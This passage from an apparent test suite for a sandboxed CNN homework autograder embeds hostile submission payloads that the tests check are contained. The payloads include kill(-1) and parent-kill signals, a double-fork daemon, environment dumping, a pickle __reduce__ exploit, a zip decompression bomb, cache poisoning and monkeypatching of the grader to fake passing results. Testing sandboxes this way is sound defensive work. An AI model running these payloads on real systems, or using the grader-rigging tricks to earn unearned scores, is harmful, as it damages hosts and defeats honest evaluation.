        tried["udp"] = repr(exc)
    try:
        unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        unix.settimeout(2)
        unix.connect(@@ABSTRACT@@)
        unix.sendall(b"hello from the worker")
        tried["abstract_unix"] = "connected"
    except OSError as exc:
        tried["abstract_unix"] = repr(exc)
    raise RuntimeError("NET" + json.dumps(tried) + "END")
"""


class Listener:
    """TCP, UDP and abstract-unix servers on this machine's loopback that record who reaches them."""

    def __init__(self, marker: str) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.abstract = "\0" + marker
        self.unix.bind(self.abstract)
        self.unix.listen()
        self.received: list[str] = []
        self.stop = threading.Event()
        for sock in (self.tcp, self.udp, self.unix):
            sock.settimeout(0.2)
            threading.Thread(target=self._serve, args=(sock,), daemon=True).start()

    def _serve(self, sock: socket.socket) -> None:
        while not self.stop.is_set():
            try:
                if sock.type == socket.SOCK_DGRAM:
                    data, _ = sock.recvfrom(1024)
                    self.received.append(f"udp: {data!r}")
                else:
                    conn, _ = sock.accept()
                    self.received.append(f"{sock.family.name}: connection")
                    conn.close()
            except (TimeoutError, OSError):
                continue

    def close(self) -> None:
        self.stop.set()
        for sock in (self.tcp, self.udp, self.unix):
            sock.close()


def test_network_is_unreachable_even_on_loopback(attack: Attack) -> None:
    listener = Listener(attack.marker)
    try:
        source = attack.render(
            NETWORK,
            TCP=listener.tcp.getsockname()[1],
            UDP=listener.udp.getsockname()[1],
            ABSTRACT=listener.abstract,
        )
        graded = attack.grade(attack.shapes(source), "-k", "check_shapes")
        time.sleep(0.5)
    finally:
        listener.close()
    honest(graded, SHAPES - {"shapes/count_parameters"})
    tried = seen(graded, "shapes/count_parameters", "NET")
    if SANDBOXED:
        assert listener.received == [], listener.received
        assert tried["tcp"].startswith("ConnectionRefusedError"), tried  # its own, empty loopback
        assert tried["abstract_unix"].startswith("ConnectionRefusedError"), tried  # abstract names are per netns
    attack.assert_contained(graded)


SIGNALS_INSIDE = """

def conv_params(*args, **kwargs):
    import signal
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGALRM):
        signal.signal(sig, signal.SIG_IGN)
    while True:
        pass


def linear_params(*args, **kwargs):
    import os
    import signal
    os.killpg(0, signal.SIGKILL)  # its own process group


def count_parameters(*args, **kwargs):
    import signal
    import time
    signal.alarm(1)
    time.sleep(10)
"""


def test_signal_tricks_inside_the_worker(attack: Attack) -> None:
    graded = attack.grade(attack.shapes(SIGNALS_INSIDE), "-k", "check_shapes", "--timeout", "3")
    honest(graded, SHAPES - {"shapes/conv_params", "shapes/linear_params", "shapes/count_parameters"})
    assert "no answer within 3 s" in output(graded, "shapes/conv_params")
    # Unconfined the worker's status says which signal; bubblewrap reports it as exit code 128 + signal.
    assert re.search("killed by signal 9|exited with code 137", output(graded, "shapes/linear_params"))
    assert re.search("killed by signal 14|exited with code 142", output(graded, "shapes/count_parameters"))
    attack.assert_contained(graded)


SIGNALS_OUTSIDE = """

def _outcome(fn):
    try:
        fn()
        return "sent"
    except OSError as exc:
        return type(exc).__name__


def count_parameters(*args, **kwargs):
    import json
    import os
    import signal
    tried = {
        "getppid": os.getppid(),
        "kill_parent": _outcome(lambda: os.kill(os.getppid(), signal.SIGKILL)),
        "kill_init": _outcome(lambda: os.kill(1, signal.SIGKILL)),
        "kill_all": _outcome(lambda: os.kill(-1, signal.SIGKILL)),  # everything this uid can signal
    }
    raise RuntimeError("SIG" + json.dumps(tried) + "END")
"""


@needs_bwrap  # unconfined, kill(getppid()) kills the judge and kill(-1) as root kills the machine's processes
def test_signals_aimed_outside_the_worker(attack: Attack) -> None:
    graded = attack.grade(attack.shapes(SIGNALS_OUTSIDE), "-k", "check_shapes", "--sandbox", "bwrap")
    honest(graded, SHAPES - {"shapes/count_parameters"})
    tried = seen(graded, "shapes/count_parameters", "SIG")
    # the worker's parent is in its own PID namespace (its init, or the worker template, PID 2), not the judge
    assert tried["getppid"] in (1, 2), tried
    assert tried["kill_parent"] == "PermissionError" and tried["kill_init"] == "PermissionError", tried
    attack.assert_contained(graded)


GLOBAL_STATE = """
import torch as _torch

_torch.set_default_dtype(_torch.float64)
_torch.manual_seed(123)
_torch.set_grad_enabled(False)
_honest_conv_output_size = conv_output_size


def conv_output_size(*args, **kwargs):
    _torch.set_default_dtype(_torch.float16)
    _torch.manual_seed(321)
    _torch.set_grad_enabled(False)
    return _honest_conv_output_size(*args, **kwargs)
"""


def test_global_torch_state_does_not_leak_into_other_checks(attack: Attack) -> None:
    graded = attack.grade(attack.shapes(GLOBAL_STATE), "-k", "not check_robustness")
    honest(graded, set(graded.checks), checks=None)
    assert {name.split("/")[0] for name in graded.checks} == {"shapes", "quadrant", "gradcam", "training"}
    assert graded.results["score"] == course_points() - course_points(group="robustness")
    attack.assert_contained(graded)


DEFAULT_DEVICE = """
import torch as _torch

_torch.set_default_device("meta")  # e.g. a student's `torch.set_default_device("cuda")` at the top of the file
"""


def test_default_device_set_at_import_does_not_leak(attack: Attack) -> None:
    graded = attack.grade(attack.shapes(DEFAULT_DEVICE), "-k", "check_shapes or check_training")
    assert graded.returncode == 0
    assert SHAPES <= set(graded.checks) - graded.failed  # shapes.py itself is correct
    if graded.failed:
        raise KnownWeakness(f"correct modules lost {sorted(graded.failed)}")
    honest(graded, set(graded.checks), checks=None)
    attack.assert_contained(graded)


ENVIRONMENT = """

def count_parameters(*args, **kwargs):
    import json
    import os
    _plant("-env", json.dumps(dict(os.environ)))
    paths = @@PATHS@@
    info = {
        "env": sorted(os.environ),
        "data_in_env": any("MNIST" in v or "shared/data" in v for v in os.environ.values()),
        "visible": [p for p in paths if os.path.exists(p)],
        "uid": os.getuid(),
        "pids": len([p for p in os.listdir("/proc") if p.isdigit()]),
        "status": [line for line in open("/proc/self/status").read().splitlines()
                   if line.startswith(("Cap", "Groups", "NoNewPrivs", "Uid", "Gid"))],
    }
    raise RuntimeError("SEEN" + json.dumps(info) + "END")
"""


def test_environment_shows_no_data_and_no_judge(attack: Attack) -> None:
    paths = [
        str(SHARED_DATA / "MNIST"),
        str(Path.home() / ".cache" / "cnn-grader"),
        str(ROOT / "reference"),
        str(ROOT / "solutions"),
        str(ROOT / "tests"),
        str(ROOT / ".git"),
        str(attack.out),
    ]
    graded = attack.grade(attack.shapes(attack.render(ENVIRONMENT, PATHS=paths)), "-k", "check_shapes")
    honest(graded, SHAPES - {"shapes/count_parameters"})
    info = seen(graded, "shapes/count_parameters", "SEEN")
    assert "CNN_GRADER_DATA" not in info["env"] and not info["data_in_env"], info
    if SANDBOXED:
        assert info["visible"] == [], info
        assert info["uid"] in sandbox.SANDBOX_UIDS or os.geteuid() != 0, info
        assert info["pids"] <= 4, info  # its own PID namespace: init, the worker template and the worker
        status = dict(line.split(":", 1) for line in info["status"])
        assert status["NoNewPrivs"].strip() == "1", info
        if os.geteuid() == 0:  # root drops to the grading's user, with no group and no capability in any set
            assert all(status[f"Cap{s}"].strip() == "0000000000000000" for s in ("Inh", "Prm", "Eff", "Bnd", "Amb"))
            assert status["Groups"].strip() == "" and set(status["Uid"].split()) == {str(info["uid"])}, info
    attack.assert_contained(graded)


DAEMON = """
import os
import sys

_DAEMON = '''
import os, sys, time
marker = sys.argv[1]
for _ in range(600):
    for folder in @@FOLDERS@@:
        try:
            open(os.path.join(folder, marker + "-daemon"), "w").write("still here")
        except OSError:
            pass
    time.sleep(0.5)
'''


def _daemonize():
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            os.execve(sys.executable, [sys.executable, "-c", _DAEMON, @@MARKER@@], {})
    finally:
        os._exit(0)


_daemonize()
"""


def test_daemon_left_running_dies_with_the_grading(attack: Attack) -> None:
    graded = attack.grade(attack.shapes(attack.render(DAEMON)), "-k", "check_shapes")
    honest(graded, SHAPES)
    time.sleep(1)
    attack.assert_contained(graded)


# ---------------------------------------------------------------------------------------------------------
# 5. Forged replies with the stolen nonce: the protocol as seen from inside the worker
# ---------------------------------------------------------------------------------------------------------

FORGED_REPLIES = {
    "wrong_value": """
import json
request, _ = _steal_channel()
_send(json.dumps({"ok": True, "result": {"kind": "int", "value": -5, "type": "int"},
                  "id": request["id"], "nonce": request["nonce"]}).encode())
""",
    "deeply_nested_json": """
_send(b"[" * 2_000_000 + b"]" * 2_000_000)
""",
    "pickled_object_array": """
import io
import json

import numpy as np


class _Evil:
    def __reduce__(self):
        return (open, (@@JUDGE_FILE@@, "w"))  # runs in whoever unpickles it


request, _ = _steal_channel()
buffer = io.BytesIO()
np.savez(buffer, a0=np.array([_Evil()], dtype=object))
head = {"ok": True, "result": {"kind": "tensor", "array": {"$array": "a0"}, "shape": [1]},
        "id": request["id"], "nonce": request["nonce"]}
_send(json.dumps(head).encode(), buffer.getvalue())
""",
}


@pytest.mark.parametrize("forgery", sorted(FORGED_REPLIES))
def test_forged_reply_with_the_stolen_nonce(attack: Attack, forgery: str) -> None:
    body = "\n".join("    " + line for line in FORGED_REPLIES[forgery].strip().splitlines())
    # quadrant_net_shapes is the group's last check: a worker that exits right after its forged reply could
    # otherwise still look alive to the judge's next request and cost that check too (a race, not a verdict).
    source = STEAL_CHANNEL + "\n\ndef quadrant_net_shapes(*args, **kwargs):\n" + body + "\n"
    judge_file = attack.tmp_path / f"{attack.marker}-unpickled-in-the-judge"
    graded = attack.grade(attack.shapes(attack.render(source, JUDGE_FILE=str(judge_file))), "-k", "check_shapes")
    honest(graded, SHAPES - {"shapes/quadrant_net_shapes"})
    # (deeply_nested_json fails the check as "grader error: RecursionError": unpack lets it through as no
    # ProtocolError, so the worker is not stopped; fail-closed only because this worker exits by itself)
    assert not judge_file.exists()
    if forgery == "wrong_value":  # the forgery answers the batch of cases, or (the worker gone) one case alone
        message = output(graded, "shapes/quadrant_net_shapes")
        assert "returned int -5, expected a list" in message or "exited with code 0" in message, message
    if forgery == "pickled_object_array":
        assert "broke the protocol" in output(graded, "shapes/quadrant_net_shapes")
    attack.assert_contained(graded)


NPZ_BOMB = """

def quadrant_net_shapes(*args, **kwargs):
    import json
    import struct
    import zlib
    request, _ = _steal_channel()
    n_bytes, chunk = @@N_BYTES@@, 64 * 2**20
    magic = b"\\x93NUMPY\\x01\\x00"
    meta = ("{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }" % n_bytes).encode()
    meta += b" " * (64 - (len(magic) + 2 + len(meta) + 1) % 64) + b"\\n"
    npy_head = magic + struct.pack("<H", len(meta)) + meta
    zeros = bytes(chunk)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = deflate.compress(npy_head) + deflate.flush(zlib.Z_FULL_FLUSH)
    block = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)  # independent after a full flush
    data += block * (n_bytes // chunk) + deflate.flush(zlib.Z_FINISH)
    crc = zlib.crc32(npy_head)
    for _ in range(n_bytes // chunk):
        crc = zlib.crc32(zeros, crc)
    size, name = len(npy_head) + n_bytes, b"a0.npy"
    sizes = (crc, len(data), size, len(name))
    local = struct.pack("<4sHHHHHIIIHH", b"PK\\x03\\x04", 20, 0, 8, 0, 0, *sizes, 0) + name
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\\x01\\x02", 20, 20, 0, 8, 0, 0, *sizes, 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<4sHHHHIIH", b"PK\\x05\\x06", 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    blob = local + data + central + end
    result = {"kind": "tensor", "dtype": "uint8", "shape": [n_bytes], "device": "cpu", "requires_grad": False,
              "type": "Tensor", "array": {"$array": "a0"}}
    _send(json.dumps({"ok": True, "result": result, "id": request["id"], "nonce": request["nonce"]}).encode(), blob)
"""


def test_compressed_reply_cannot_blow_up_the_judge(attack: Attack) -> None:
    source = STEAL_CHANNEL + attack.render(NPZ_BOMB, N_BYTES=2**30)
    graded = attack.grade(attack.shapes(source), "-k", "check_shapes")
    honest(graded, SHAPES - {"shapes/quadrant_net_shapes"})
    assert "must be stored, not compressed" in output(graded, "shapes/quadrant_net_shapes")
    if SANDBOXED:  # the judge's memory is the point here, in either mode
        attack.assert_contained(graded)
    assert graded.judge_peak_kib <= JUDGE_MEMORY_BUDGET_KIB, f"judge peak RSS {graded.judge_peak_kib / 2**20:.2f} GiB"


# ---------------------------------------------------------------------------------------------------------
# 6. The observation cache: one submission must not decide another submission's result
# ---------------------------------------------------------------------------------------------------------

POISON = """
import importlib as _importlib

_MODEL_ANSWER = @@QUADRANT@@


def _poison():
    import grader.worker.ops
    quadrant = _importlib.import_module("quadrant")  # the untouched stub
    namespace = {"__name__": "not_quadrant"}
    exec(compile(_MODEL_ANSWER, "not_quadrant", "exec"), namespace)
    quadrant.QuadrantNet = namespace["QuadrantNet"]  # working networks, from a module the cache never hashes
    quadrant.RobustQuadrantNet = namespace["RobustQuadrantNet"]
    grader.worker.ops.loaded_files = lambda: ["quadrant.py"]  # the lie: only the module under test was used


_poison()
"""


def test_poisoned_observation_cache_gives_no_points_to_the_stubs(attack: Attack) -> None:
    # A private cache: a poisoned entry in the shared ~/.cache/cnn-grader would reach every later grading.
    env = {"CNN_GRADER_CACHE": str(attack.tmp_path / "cache")}
    poisoner = attack.tmp_path / "poisoner"
    shutil.copytree(ROOT / "exercises", poisoner)
    model_answer = (ROOT / "solutions" / "quadrant.py").read_text()
    (poisoner / "shapes.py").write_text(SOLUTION_SHAPES + attack.render(POISON, QUADRANT=model_answer))
    # The judge exports a network before any check when it will train it (check_robustness.prefetch), before
    # shapes.py has run: the poisoner first has its hidden RobustQuadrantNet exported (and stored) by a check
    # that runs after shapes.py, then graded with the stored export.
    exported = attack.grade(poisoner, "-k", "check_shapes or robust_net_other_sizes", env=env)
    assert not exported.failed, "the poisoner's hidden RobustQuadrantNet is exported"
    first = attack.grade(poisoner, "-k", "check_robustness", env=env, out=attack.tmp_path / "out-poisoner")
    robustness = {name for name in first.checks if name.startswith("robustness/")}
    trained = {"robustness/robust_net_learns_top_left", "robustness/robust_net_keeps_bottom_right"}
    assert len(robustness) == 5 and not first.failed & trained, "the poisoner's hidden RobustQuadrantNet trains"
    stubs = attack.tmp_path / "stubs"
    shutil.copytree(ROOT / "exercises", stubs)
    graded = attack.grade(stubs, "-k", "check_robustness", env=env, out=attack.tmp_path / "out-stubs")
    assert graded.returncode == 0 and set(graded.checks) == robustness
    if SANDBOXED:
        attack.assert_contained(first)
    if graded.results["score"] > 0:
        passed = sorted(set(graded.checks) - graded.failed)
        raise KnownWeakness(f"the untouched stubs got {graded.results['score']:g} points: {passed}")
    honest(graded, set(), checks=None)


# ---------------------------------------------------------------------------------------------------------
# 7. The notebook variant: monkeypatching in the kernel and, through the collected functions, in the worker
# ---------------------------------------------------------------------------------------------------------

NOTEBOOK_CELL = """
import builtins

import grader.worker.observe as _observe_module

_fake = lambda value, depth=0: {"kind": "int", "value": 7, "type": "int"}  # noqa: E731
_observe_module.observe = _fake  # in the kernel
builtins.AssertionError = type("AssertionError", (Exception,), {})  # a kernel-wide builtins patch
builtins.NotImplementedError = builtins.AssertionError
_plant("-kernel")


def _rig():
    import grader.worker.observe
    import grader.worker.ops
    grader.worker.observe.observe = grader.worker.ops.observe = lambda value, depth=0: {
        "kind": "int", "value": 7, "type": "int"}  # in the worker, where the collected functions run


def conv_output_size(*args, **kwargs):
    _rig()
    return 7


def pool_output_size(*args, **kwargs):
    _rig()
    return 7


def conv_params(*args, **kwargs):
    _rig()
    return 7


def linear_params(*args, **kwargs):
    _rig()
    return 7


def count_parameters(*args, **kwargs):
    _rig()
    return 7


def quadrant_net_shapes(*args, **kwargs):
    _rig()
    return 7
"""


def test_notebook_cell_monkeypatching_observe_earns_nothing(attack: Attack) -> None:
    notebook = nbformat.read(ROOT / "solutions" / "cnn_exercises.ipynb", as_version=4)
    shapes_cell = next(i for i, c in enumerate(notebook.cells) if "def conv_output_size(" in c.source)
    notebook.cells.insert(shapes_cell + 1, nbformat.v4.new_code_cell(attack.render(PLANT + NOTEBOOK_CELL)))
    path = attack.tmp_path / "homework.ipynb"
    nbformat.write(notebook, path)
    graded = attack.grade(path, "-k", "check_shapes")
    honest(graded, set())
    assert "returned 7, expected" in output(graded, "shapes/conv_output_size")  # collected, rigged, and judged
    attack.assert_contained(graded)
